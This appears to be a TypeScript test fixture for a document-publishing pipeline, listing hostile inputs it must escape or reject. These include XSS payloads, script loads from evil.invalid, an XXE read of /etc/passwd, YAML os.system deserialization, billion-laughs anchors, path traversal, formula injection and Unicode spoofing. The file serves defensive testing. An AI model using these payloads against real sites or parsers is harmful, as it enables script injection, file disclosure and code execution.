import { FLAG_HEADER, writeFragment, type FragmentParts } from '../support/fragmentText.ts';

/** One text that tries something: what it is, and the fragment that holds it. */
export interface HostileFragment {
  readonly name: string;
  readonly text: string;
  /** What must come out as it stood, where the fragment is published. */
  readonly payload?: string;
}

/** What sets off the alarm of the browser test, if any of it is ever run. */
const RUN = 'window.hacked=1';

/** Texts that try to be more than text, by what they try. Each stands in every field of a fragment of its own. */
export const PAYLOADS: readonly (readonly [name: string, payload: string])[] = [
  ...[
    `<script>${RUN}</script>`,
    `<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>`,
    `</script><script>${RUN}</script>`,
    `</template><script>${RUN}</script>`,
    `</title><script>${RUN}</script>`,
    `</textarea><script>${RUN}</script>`,
    `</style><script>${RUN}</script>`,
    `</noscript><script>${RUN}</script>`,
    `--><script>${RUN}</script><!--`,
    `--!><script>${RUN}</script>`,
    `]]><script>${RUN}</script><![CDATA[`,
    `<!--<script>${RUN}//-->`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<script\u0009>${RUN}</script\u0009>`,
    `<script type=module>import("//evil.invalid/x.js")</script>`,
    `<script>${RUN}`,
  ].map((payload, at) => [`script ${at + 1}`, payload] as const),
  ...[
    `<img src=x onerror=${RUN}>`,
    `<img src=x:x onerror="${RUN}" `,
    `"><img src=x onerror=${RUN}>`,
    `' onmouseover='${RUN}' x='`,
    `" onfocus="${RUN}" autofocus="`,
    `<body onload=${RUN}>`,
    `<input autofocus onfocus=${RUN}>`,
    `<details open ontoggle=${RUN}>`,
    `<video><source onerror=${RUN}></video>`,
    `<marquee onstart=${RUN}>`,
    `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
    `<object data="javascript:${RUN}"></object>`,
    `<embed src="javascript:${RUN}">`,
    `<form action="javascript:${RUN}"><button>x</button></form>`,
    `<button formaction="javascript:${RUN}">x</button>`,
    `<base href="//evil.invalid/">`,
    `<meta http-equiv="refresh" content="0;url=//evil.invalid/">`,
    `<link rel=stylesheet href=//evil.invalid/x.css>`,
    `<style>@import "//evil.invalid/x.css";*{display:none}</style>`,
    `<div style="position:fixed;inset:0;background:url(//evil.invalid/x.png)">x</div>`,
    `<outcome-explorer data-words="{}"></outcome-explorer>`,
    `<copy-link><button></button></copy-link>`,
    `<plaintext>`,
    `<xmp><img src=x onerror=${RUN}></xmp>`,
    `<table><td background="//evil.invalid/x.png">`,
  ].map((payload, at) => [`markup ${at + 1}`, payload] as const),
  ...[
    `<svg onload=${RUN}>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
    `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  ].map((payload, at) => [`svg ${at + 1}`, payload] as const),
  ...[
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    `java\tscript:${RUN}`,
    `[x](javascript:${RUN})`,
    `<a href="javascript:${RUN}">x</a>`,
    `data:text/html,<script>${RUN}</script>`,
    `[x](data:text/html;base64,PHNjcmlwdD4=)`,
    `https://evil.invalid/"onclick="${RUN}`,
    `https://evil.invalid/'><script>${RUN}</script>`,
    `https://user:word@evil.invalid/`,
    `https://evil.invalid\\@example.org/`,
    `https://[::1/x`,
    `https://%00.invalid/`,
    `http://evil.invalid/%0d%0aSet-Cookie:a=b`,
    `vbscript:${RUN}`,
    `//evil.invalid/x`,
    `file:///etc/passwd`,
  ].map((payload, at) => [`link ${at + 1}`, payload] as const),
  ...[
    `&lt;script&gt;${RUN}&lt;/script&gt;`,
    `&#60;script&#62;${RUN}&#60;/script&#62;`,
    `&#x3c;img src=x onerror=${RUN}&#x3e;`,
    `&amp;lt;b&amp;gt; &nbsp; &notanentity; &#0; &#xD800;`,
    `&quot; onfocus=${RUN} autofocus &quot;`,
    `\u2028${RUN}\u2029`,
    `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  ].map((payload, at) => [`entities ${at + 1}`, payload] as const),
  ...[
    `{{constructor.constructor("${RUN}")()}}`,
    `\${${RUN}}`,
    `{${RUN}}`,
    `{(() => { ${RUN} })()}`,
    `<%= ${RUN} %>`,
    `#{${RUN}}`,
    `{% raw %}{% include "/etc/passwd" %}`,
    `<Fragment set:html={"<script>${RUN}</script>"} />`,
    `<script is:inline>${RUN}</script>`,
    `import x from "node:fs"`,
    `export const prerender = false`,
    `---\nconst x = ${RUN};\n---`,
    `<?php echo 1 ?>`,
    `<!--#exec cmd="ls" -->`,
    `$(${RUN})`,
    `%s %d %n {page} {site} {count} {value}`,
    `$& $1 $' $\` $$`,
  ].map((payload, at) => [`template ${at + 1}`, payload] as const),
  ...[
    `![x](https://evil.invalid/x.png)`,
    `<https://evil.invalid/<script>>`,
    `[x]: javascript:${RUN}\n\n[x]`,
    '```html\n<script>\n```',
    `# h1\n\n> quote\n\n| a | b |\n|---|---|\n| ${RUN} | c |`,
    `**bold** _em_ ~~x~~ [^1]`,
    `* <img src=x onerror=${RUN}>\n* two`,
    `1. <b>one</b>\n2. two`,
    `\\**Outcome status**: Outcome`,
    `<mark>x</mark> <abbr title="${RUN}">X</abbr>`,
    `The Hostile <b>Text (THT) and THT`,
    `Very "Quoted" Text (VQT) VQT`,
  ].map((payload, at) => [`markdown ${at + 1}`, payload] as const),
  ...[
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    'prototype',
    'valueOf',
    'undefined',
    'null',
    'NaN',
    '[object Object]',
    '__proto__, constructor, toString',
    'length',
    'then',
    'index.html',
    'page',
    'not-recorded',
    'Not recorded',
  ].map((payload) => [`name ${payload}`, payload] as const),
  ...['CON', 'NUL', 'aux', 'com1', 'LPT9', 'prn', 'CON.txt'].map(
    (payload) => [`device ${payload}`, payload] as const,
  ),
  ...[
    '../../x',
    '..\\..\\x',
    '/etc/passwd',
    'C:\\Windows\\x',
    '%2e%2e%2fx',
    '..%2f..%2fx',
    '....//....//x',
    '?q=<script>&page=2',
    '#content',
    'x/../../y',
    '~/x',
    '\\\\server\\share',
  ].map((payload, at) => [`path ${at + 1}`, payload] as const),
  ...[
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '=HYPERLINK("https://evil.invalid")',
    "=cmd|' /C calc'!A0",
  ].map((payload, at) => [`formula ${at + 1} (for exports to come)`, payload] as const),
  ['override', 'invoice\u202Excod.exe'],
  ['embedding never closed', '\u202Bgroup \u202Aand'],
  ['isolate never closed', '\u2067group and \u2066more'],
  ['closing what was never opened', '\u202C\u2069 group \u202C'],
  ['zero-width signs', 'pass\u200Bword \u2060x\uFEFFy z\u200Cw'],
  ['hidden tags', 'seen\u{E0068}\u{E0069}'],
  ['control characters', 'a\u0000b\u0007c\u001B[31md\u007Fe\u0085f\u009Bg'],
  ['zalgo', 'Z\u0317\u0349\u0300'.repeat(30) + 'a\u0301'.repeat(40)],
  ['a tower of accents', `e${'\u0301'.repeat(100)}`],
  ['one word without end', 'x'.repeat(5000)],
  ['one word of wide letters', 'W'.repeat(2000)],
  ['digits without end', '9'.repeat(2000)],
  ['a rule of underscores', '_'.repeat(2000)],
  ['an address without end', `https://evil.invalid/${'a'.repeat(3000)}`],
  ['blanks that do not break', 'x\u00A0'.repeat(1500)],
  ['right to left within', 'The group منظمة (NGO) 12-34, القانون 5/6 ends.'],
  ['right to left alone', 'بدأت المنظمة <b>العمل</b> 2023.'],
  ['emoji', '👩🏽\u200D🌾🏴\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}1\uFE0F\u20E3'],
  ['noncharacters and private use', 'a\uFFFEb\uFFFFc\uE000d\uFFFC'],
  ['wide letters', '𒐫𒈙⸻﷽꧅'.repeat(20)],
  ['JSON that ends', '"}],"x":[{"</script>'],
  ['commas', ',,, a,,b ,'],
];

/** Fields that are shown as running text, and ones that are read against vocabularies. */
const TEXTS = [
  ...['Significance of the outcome', 'Additional information (use if needed)'],
  ...['Contribution of the programme', 'Contribution of other actors and factors'],
  ...['Evidence supporting the outcome statement', 'Link to Outcomes in Results Framework'],
];
const VALUES = [
  ...['OH-harvesting period', 'coutnry', 'Year', 'Rating significance', 'Social actor', 'Scale'],
  ...['Rating contribution', 'The change was unintended', 'Outcome is negative'],
  ...['Link to DEMO Specific Objectives', 'MCQType of change', 'TypeOfChangeCluster'],
];

/** A fragment with the payload in every field, in its id, title and aliases. */
function fillFragment(payload: string, at: number): string {
  const more = Object.fromEntries([...TEXTS, ...VALUES].map((header) => [header, payload]));
  const serial = `H${at + 1}`;
  return writeFragment({
    ...(at % 2 === 0 ? {} : { frontMatter: formatEditorial(payload, serial) }),
    id: `${payload.replaceAll('\n', ' ').slice(0, 60)} ${serial}`,
    description: payload,
    more,
  });
}

function formatEditorial(payload: string, serial: string): string {
  const title = JSON.stringify(payload.trim().toWellFormed());
  const alias = JSON.stringify(`${payload.trim().slice(0, 40).toWellFormed()} ${serial} alias`);
  return `title: ${title}\naliases: [${alias}]\nlang: ar`;
}

/** Fragments that hold the payloads; all of them may be published. */
export const PUBLISHABLE: readonly HostileFragment[] = PAYLOADS.map(([name, payload], at) => ({
  name,
  payload,
  text: fillFragment(payload, at),
}));

const withYaml = (yaml: string, parts: FragmentParts = {}): string =>
  writeFragment({ frontMatter: yaml, ...parts });
const laugh = 'abcdefgh';

/** Fragments that must be refused or withheld, each with the code of the problem that says so. */
export const REFUSED: readonly (HostileFragment & { readonly code: string })[] = [
  [
    'a script as front matter',
    '---js\n{ "x": (globalThis.demoRan = 1) }\n---\n**A**: b',
    'front-matter-language',
  ],
  [
    'coffee as front matter',
    '---coffee\nglobal.demoRan = 1\n---\n**A**: b',
    'front-matter-language',
  ],
  ['JSON as front matter', '---json\n{}\n---\n**A**: b', 'front-matter-language'],
  [
    'a function in YAML',
    withYaml('title: !!js/function "function () { globalThis.demoRan = 1 }"'),
    'front-matter-yaml',
  ],
  ['a regular expression in YAML', withYaml('title: !!js/regexp /(a+)+/'), 'front-matter-yaml'],
  [
    'an object of Python',
    withYaml('title: !!python/object/apply:os.system ["ls"]'),
    'front-matter-yaml',
  ],
  ['an unknown tag', withYaml('title: !evil x'), 'front-matter-yaml'],
  [
    'anchors that explode',
    withYaml(
      `a0: &a0 [x, x, x, x, x, x, x, x, x]\n${Array.from(laugh, (_, at) => `a${at + 1}: &a${at + 1} [${`*a${at}, `.repeat(9)}]`).join('\n')}`,
    ),
    'front-matter-yaml',
  ],
  ['an anchor within itself', withYaml('redact: &a [*a]'), 'front-matter-value'],
  ['deep lists', withYaml(`title: ${'['.repeat(5000)}${']'.repeat(5000)}`), 'front-matter-yaml'],
  ['deep mappings', withYaml(`title: ${'{a: '.repeat(3000)}`), 'front-matter-yaml'],
  ['a key twice', withYaml('withhold: true\nwithhold: false'), 'front-matter-yaml'],
  ['a merge key', withYaml('<<: {withhold: false}'), 'front-matter-key'],
  ['__proto__ as a setting', withYaml('__proto__: {withhold: false}'), 'front-matter-key'],
  [
    'constructor as a setting',
    withYaml('constructor: {prototype: {withhold: false}}'),
    'front-matter-key',
  ],
  ['a number as title', withYaml('title: 1e400'), 'front-matter-value'],
  ['a title of nothing', withYaml('title: null'), 'front-matter-value'],
  ['withhold as text', withYaml('withhold: "no"'), 'front-matter-value'],
  ['a language that is a script', withYaml('lang: "x\\"><script>"'), 'front-matter-value'],
  [
    'more aliases than anybody has',
    withYaml(`aliases: [${'a, '.repeat(201)}]`),
    'front-matter-value',
  ],
  ['front matter without end', '---\nwithhold: false\n**A**: b', 'front-matter-open'],
  ['two documents', withYaml('withhold: false\n... \nwithhold: true'), 'front-matter-yaml'],
  [
    'ten megabytes in one line',
    writeFragment({ description: 'x'.repeat(10_000_000) }),
    'file-too-large',
  ],
  [
    'ten megabytes of words',
    writeFragment({ description: 'word '.repeat(2_000_000) }),
    'file-too-large',
  ],
  [
    'a hundred thousand fields',
    Array.from({ length: 100_000 }, (_, at) => `**${at}**: x\n`).join(''),
    'file-too-large',
  ],
  [
    'the same field ten thousand times',
    writeFragment({}) + '**Year**: 1\n'.repeat(10_000),
    'duplicate-header',
  ],
  [
    'a tower of a thousand accents',
    writeFragment({ description: `e${'\u0301\u0327'.repeat(500)}` }),
    'marks-piled',
  ],
  [
    'a megabyte of accents in wrong order',
    writeFragment({ description: `e${'\u0301\u0327'.repeat(200_000)}` }),
    'marks-piled',
  ],
  ['an id of dots', writeFragment({ id: '../../..' }), 'id-without-letters'],
  ['an id without end', writeFragment({ id: 'x'.repeat(100_000) }), 'id-too-long'],
  ['an alias of slashes', withYaml('aliases: ["//"]'), 'id-without-letters'],
  ['the flag twice', `${writeFragment({})}**${FLAG_HEADER}**: \n`, 'duplicate-header'],
  ['text before the first field', `<script>\n${writeFragment({})}`, 'text-before-first-field'],
  ['nothing but a sign', '\uFEFF\u200B', 'no-fields'],
  ['only asterisks', '*'.repeat(500_000), 'no-fields'],
].map(([name = '', text = '', code = '']) => ({ name, text, code }));
